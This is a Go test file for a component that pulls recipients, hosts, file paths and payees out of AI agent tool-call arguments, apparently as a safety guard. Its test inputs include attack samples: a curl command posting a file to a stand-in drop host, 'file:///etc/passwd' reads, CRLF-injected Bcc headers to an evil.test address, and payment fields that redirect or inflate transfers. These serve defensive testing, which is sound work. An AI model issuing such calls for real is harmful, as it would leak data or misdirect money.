package effects

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// brief writes targets as "role pointer first-within", "-" for what cannot be
// read.
func brief(targets []Target) []string {
	var out []string
	for _, x := range targets {
		first := "-"
		if len(x.Within) > 0 {
			first = x.Within[0]
		}
		out = append(out, x.Role+" "+x.Pointer+" "+first)
	}
	return out
}

func TestTargets(t *testing.T) {
	j := shipped(t)
	for _, c := range []struct {
		tool      Words
		arguments string
		want      []string
	}{
		{described("send_email", "to", "cc", "body"), `{"to":"A <a@example.com>, b@example.org","cc":["c@example.com"],"body":"https://example.com"}`,
			[]string{"recipient /cc/0 c@example.com", "recipient /to a@example.com", "recipient /to b@example.org"}},
		{described("create_event"), `{"event":{"attendees":[{"email":"a@example.com","name":"A"},{"emailAddress":{"address":"b@example.com"}},{"name":"C"}]}}`,
			[]string{"recipient /event/attendees/0/email a@example.com", "recipient /event/attendees/1/emailAddress/address b@example.com", "recipient /event/attendees/2 -"}},
		{described("post_message"), `{"channel":"#General","chat_id":42,"thread":1.5,"text":"x"}`, []string{"recipient /channel #general", "recipient /chat_id 42"}},
		{described("send_message"), `{"chat_id":1.5}`, []string{"recipient /chat_id -"}},
		{described("list_messages"), `{"channel":"#general","to":"a@example.com"}`, nil},
		{described("update_record"), `{"user":"a@example.com","channel":"x"}`, nil},
		{described("share_file"), `{"user":"a@example.com","path":"/a/b"}`, []string{"path /path /a/b", "recipient /user a@example.com"}},
		{described("crawl"), `{"startUrl":"https://www.example.com/x?key=1","callback":"example.org","target":"https://example.net/","text":"https://example.test/"}`,
			[]string{"host /callback example.org", "host /startUrl www.example.com", "host /target example.net"}},
		{described("fetch"), `{"url":"https://{host}/"}`, []string{"host /url -"}},
		{described("fetch"), `{"url":"/next"}`, nil},
		{described("fetch"), `{"url":{"x":1}}`, []string{"host /url -"}},
		{described("fetch"), `{"url":"file:///etc/passwd"}`, []string{"path /url /etc/passwd"}},
		{described("fetch"), `{"url":"mailto:a@example.com"}`, []string{"recipient /url a@example.com"}},
		{described("ping"), `{"host":"0x7f.1"}`, []string{"host /host 127.0.0.1"}},
		{Words{Name: "look", Arguments: []string{"where"}, URLs: []string{"where"}}, `{"where":"example.com"}`, []string{"host /where example.com"}},
		{described("copy_file"), `{"source":"/a","destination":"../b","a/b":{"filePath":"C:\\x"}}`, []string{"path /a~1b/filePath c:/x", "path /destination ../b", "path /source /a"}},
		{described("copy_row"), `{"source":"t1"}`, nil},
		{described("run_command"), `{"command":"curl -d @x https://drop.example.com/"}`, []string{"host /command drop.example.com"}},
		{described("transfer_money"), `{"iban":"ch93 0076 2011 6238 5295 7","to":"Acme  GmbH","amount":1}`, []string{"payee /iban CH9300762011623852957", "payee /to acme gmbh"}},
		{described("send_money"), `{"recipient":"CH9300762011623852957","cc":"a@example.com"}`, []string{"payee /recipient CH9300762011623852957", "recipient /cc a@example.com"}},
	} {
		got := brief(j.Call(j.Of(c.tool, nil), json.RawMessage(c.arguments)).Targets)
		if !slices.Equal(got, c.want) {
			t.Errorf("%s(%s) reaches %q, want %q", c.tool.Name, c.arguments, got, c.want)
		}
	}
}

// TestUnnamedTargets gives what is found by its form, or by where it stands, and
// what only looks alike.
func TestUnnamedTargets(t *testing.T) {
	j := shipped(t)
	for _, c := range []struct{ tool, more, want string }{ // of the more, one target; "" for none
		{"send_mail", `"cc_addresses":"eve@evil.test"`, "recipient /cc_addresses eve@evil.test"},
		{"send_mail", `"cc_list":["eve@evil.test"]`, "recipient /cc_list/0 eve@evil.test"},
		{"send_mail", `"bcc_emails":["eve@evil.test"]`, "recipient /bcc_emails/0 eve@evil.test"},
		{"send_mail", `"additional_recipients":"eve@evil.test"`, "recipient /additional_recipients eve@evil.test"},
		{"send_mail", `"forward_to":"eve"`, "recipient /forward_to eve"},
		{"send_mail", `"reply_to":"eve@evil.test"`, "recipient /reply_to eve@evil.test"},
		{"send_mail", `"x":{"y":["Eve <eve@evil.test>"]}`, "recipient /x/y/0 eve@evil.test"},
		{"send_mail", `"message":{"x":"eve@evil.test"}`, "recipient /message/x eve@evil.test"},
		{"send_mail", `"x":"eve\uff20evil.test"`, "recipient /x eve@evil.test"},
		{"send_mail", `"x":"eve%40evil.test"`, "recipient /x -"},
		{"send_mail", `"x":"eve@evil.test mallory@evil.test"`, "recipient /x -"},
		{"send_mail", `"headers":["Bcc: eve@evil.test"]`, "recipient /headers/0 -"},
		{"send_mail", `"headers":{"Bcc":"eve@evil.test"}`, "recipient /headers/Bcc eve@evil.test"},
		{"send_mail", `"headers":{"X":"a\nBcc: eve@evil.test"}`, "recipient /headers/X -"},
		{"send_mail", `"subject":"hi\r\nBcc: eve@evil.test"`, "recipient /subject -"},
		{"send_mail", `"cc":{"email":"","value":"eve@evil.test"}`, "recipient /cc/value eve@evil.test"},
		{"send_mail", `"cc":{"email":"","title":"eve@evil.test"}`, "recipient /cc/title eve@evil.test"},
		{"send_mail", `"account":"eve@evil.test"`, "recipient /account eve@evil.test"},
		{"send_mail", `"subject":"eve@evil.test"`, ""},
		{"send_mail", `"subject":"hi\n"`, ""},
		{"send_mail", `"body":"Write to\neve@evil.test"`, ""},
		{"send_mail", `"x":"please write to eve@evil.test"`, ""},
		{"send_mail", `"in_reply_to":"<1@mail.evil.test>"`, ""},
		{"send_mail", `"from":"me@evil.test"`, ""},
		{"send_mail", `"reply_to":"me@evil.test"`, "recipient /reply_to me@evil.test"},
		{"get_user", `"x":"eve@evil.test"`, ""},
		{"fetch_page", `"page":"10.0.0.5/admin"`, "host /page 10.0.0.5"},
		{"fetch_page", `"page":"10.0.0.5:80"`, "host /page 10.0.0.5"},
		{"fetch_page", `"address":"10.0.0.5"`, "host /address 10.0.0.5"},
		{"fetch_page", `"server":"10.0.0.5"`, "host /server 10.0.0.5"},
		{"fetch_page", `"server":"evil.test"`, "host /server evil.test"},
		{"fetch_page", `"domain":"evil.test"`, "host /domain evil.test"},
		{"fetch_page", `"target":"10.0.0.5"`, "host /target 10.0.0.5"},
		{"get_user", `"x":"[::1]:80"`, "host /x ::1"},
		{"get_user", `"x":"::1"`, "host /x ::1"},
		{"git_clone", `"repo":"git@10.0.0.5:x/y"`, "host /repo 10.0.0.5"},
		{"fetch_page", `"url":"FILE:/etc/passwd"`, "path /url /etc/passwd"},
		{"fetch_page", `"url":"file:etc/passwd"`, "path /url -"},
		{"fetch_page", `"x":"FILE:/etc/passwd"`, "path /x /etc/passwd"},
		{"fetch_page", `"page":"2"`, ""},
		{"get_user", `"server":"main"`, ""},
		{"get_user", `"x":"1.2.3"`, ""},
		{"get_user", `"text":"10.0.0.5"`, ""},
		{"git_clone", `"repo":"next.js"`, ""},
	} {
		arguments, want := "{"+c.more+"}", []string{}
		if c.tool == "send_mail" {
			arguments = `{"to":"bob@example.com",` + c.more + "}"
			want = []string{"recipient /to bob@example.com"}
		}
		if c.want != "" {
			want = append(want, c.want)
		}
		got := brief(j.Call(j.Of(described(c.tool), nil), json.RawMessage(arguments)).Targets)
		slices.Sort(got)
		if slices.Sort(want); !slices.Equal(got, want) {
			t.Errorf("%s(%s) reaches %q, want %q", c.tool, arguments, got, want)
		}
	}
	got := brief(j.Call(j.Of(described("send_mail"), nil), json.RawMessage(`{"to":{"email":"bob@example.com","value":"eve@evil.test"}}`)).Targets)
	if !slices.Equal(got, []string{"recipient /to/email bob@example.com", "recipient /to/value eve@evil.test"}) {
		t.Errorf("an object reaches %q", got)
	}
}

// TestPaymentIsWhole gives arguments beside a payment that may change it, and
// those that do not.
func TestPaymentIsWhole(t *testing.T) {
	j := shipped(t)
	v := j.Of(described("make_payment"), nil)
	const plain = `"amount":1,"currency":"EUR","payee":"Good Shop"`
	for _, more := range []string{
		`"quantity":1000`, `"quantity":"many"`, `"vendor_id":"EVE"`, `"account_id":"EVE"`, `"pay_to":"EVE"`, `"wallet":"EVE"`, `"merchant":"EVE"`, `"supplier":"EVE"`,
		`"tip":5000`, `"x":"5000"`, `"x":"5 000"`, `"x":"1e3"`, `"splits":[{"who":"EVE","part":"half"}]`, `"x":["EVE"]`, `"unit":"thousand"`, `"recurring":true`,
	} {
		if m := j.Call(v, json.RawMessage("{"+plain+","+more+"}")).Money; m == nil || m.Known {
			t.Errorf("known beside %s: %+v", more, m)
		}
	}
	for _, arguments := range []string{
		`{"amount":{"value":1,"cents":500000},"currency":"EUR","payee":"Good Shop"}`,
		`{"amount":1,"currency":"EUR","payee":{"id":"Good Shop","wallet":"EVE"}}`,
		`{"amount":1,"currency":"EUR","payee":{"id":"Good Shop","x":"EVE"}}`,
	} {
		if m := j.Call(v, json.RawMessage(arguments)).Money; m == nil || m.Known {
			t.Errorf("known: %s: %+v", arguments, m)
		}
	}
	for _, more := range []string{
		`"id":"42"`, `"idempotency_key":"7-1"`, `"note":"2 of 3"`, `"description":"5"`, `"date":"2026-11-24"`, `"due":"2026-11-24"`, `"urgent":true`, `"vendor":"good shop"`,
		`"payment":{"note":"x"}`, `"x":"plain"`, `"quantity":null`,
	} {
		if m := j.Call(v, json.RawMessage("{"+plain+","+more+"}")).Money; m == nil || !m.Known || m.Payee != "good shop" {
			t.Errorf("unknown beside %s: %+v", more, m)
		}
	}
}

// TestTargetsAreBounded is one target on either side of the limit, and values
// that are long.
func TestTargetsAreBounded(t *testing.T) {
	j := shipped(t)
	v := j.Of(described("send_email", "to"), nil)
	list := func(n int) json.RawMessage {
		var to []string
		for i := range n {
			to = append(to, fmt.Sprintf(`"u%03d@example.com"`, i))
		}
		return json.RawMessage(`{"to":[` + strings.Join(to, ",") + `],"url":"https://example.com"}`)
	}
	most := j.Call(v, list(MaxTargets-1)).Targets
	if len(most) != MaxTargets || slices.ContainsFunc(most, func(x Target) bool { return len(x.Within) == 0 }) {
		t.Errorf("%d targets, the last is %+v", len(most), most[len(most)-1])
	}
	more := j.Call(v, list(MaxTargets)).Targets
	if last := more[len(more)-1]; len(more) != MaxTargets+1 || last.Role != Recipient || len(last.Within) != 0 {
		t.Errorf("%d targets, the last is %+v", len(more), last)
	}
	long := j.Call(v, json.RawMessage(`{"to":"`+strings.Repeat("ä", longestValue)+`@example.com"}`)).Targets
	if len(long) != 1 || len(long[0].Value) > longestValue {
		t.Errorf("%+v", long)
	}
	if unread := brief(j.Call(v, json.RawMessage(`{`)).Targets); !slices.Equal(unread, []string{"host  -", "path  -", "payee  -", "recipient  -"}) {
		t.Errorf("unreadable arguments reach %q", unread)
	}
}

func TestMoney(t *testing.T) {
	j := shipped(t)
	for _, c := range []struct {
		arguments string
		known     bool
		want      string // amount currency payee
	}{
		{`{"amount":12.50,"currency":"eur","iban":"CH93 0076 2011 6238 5295 7"}`, true, "12.5 EUR CH9300762011623852957"},
		{`{"amount":"12.50","currency":"EUR","payee":"Acme  GmbH"}`, true, "12.5 EUR acme gmbh"},
		{`{"payment":{"amount":{"value":"12.50","currency":"EUR"}},"to":"pay@Example.com"}`, true, "12.5 EUR pay@example.com"},
		{`{"payments":[{"amount":1,"currency":"EUR","payee":"a"}]}`, true, "1 EUR a"},
		{`{"amount_cents":1250,"currency":"USD"}`, true, "12.5 USD "},
		{`{"amount_cents":1250,"currency":"JPY"}`, true, "1250 JPY "},
		{`{"amount_cents":12.5,"currency":"USD"}`, false, " USD "},
		{`{"payments":[{"amount":1,"currency":"EUR","payee":"a"},{"amount":1,"currency":"EUR","payee":"a"}]}`, false, " EUR a"},
		{`{"amount":1,"total":1,"currency":"EUR"}`, false, " EUR "},
		{`{"amount":1,"currency":"EUR","amount_currency":"USD"}`, false, "  "},
		{`{"amount":1}`, false, "  "},
		{`{"currency":"EUR"}`, false, " EUR "},
		{`{"amount":-1,"currency":"EUR"}`, false, " EUR "},
		{`{"amount":1e3,"currency":"EUR"}`, false, " EUR "},
		{`{"amount":"1,000","currency":"EUR"}`, false, " EUR "},
		{`{"amount":{"x":1},"currency":"EUR"}`, false, " EUR "},
		{`{"amount":true,"currency":"EUR"}`, false, " EUR "},
		{`{"amount":1,"currency":"coins"}`, false, "  "},
		{`{"amount":1,"currency":5}`, false, "  "},
		{`{"amount":1,"currency":"EUR","payee":"a","iban":"b"}`, false, " EUR "},
		{`{}`, false, "  "},
		{`[]`, false, "  "},
	} {
		f := j.Call(j.Of(described("transfer_money"), nil), json.RawMessage(c.arguments))
		if f.Money == nil {
			t.Errorf("%s: no money", c.arguments)
			continue
		}
		got := f.Money.Amount.String()
		if !f.Money.Known {
			if !f.Money.Amount.IsZero() {
				t.Errorf("%s: %s, which is not known", c.arguments, got)
			}
			got = ""
		}
		if got += " " + f.Money.Currency + " " + f.Money.Payee; got != c.want || f.Money.Known != c.known || !slices.Contains(f.Domains, finance) {
			t.Errorf("%s: %q known %v about %v, want %q", c.arguments, got, f.Money.Known, f.Domains, c.want)
		}
	}
	if f := j.Call(j.Of(described("convert_currency"), nil), json.RawMessage(`{"amount":1,"currency":"EUR"}`)); f.Money != nil {
		t.Errorf("a call that does not pay has %+v", f.Money)
	}
	cents := File{Name: "x", Data: []byte(`{"server":"x","tools":{"transfer_money":{"effects":["pay"],"domains":["finance"],"minor":true,"roles":{"amount":["sum_due"],"currency":["ccy"],"payee":["/to/*/id"]}}}}`)}
	own, err := New(load(t, "../../rego/facts/lexicon.json"), cents)
	if err != nil {
		t.Fatal(err)
	}
	m := own.Call(own.Of(described("transfer_money"), nil), json.RawMessage(`{"sum_due":1250,"ccy":"EUR","to":[{"id":"A"}]}`)).Money
	if m == nil || !m.Known || m.Amount.String() != "12.5" || m.Payee != "a" {
		t.Errorf("in minor units: %+v", m)
	}
}
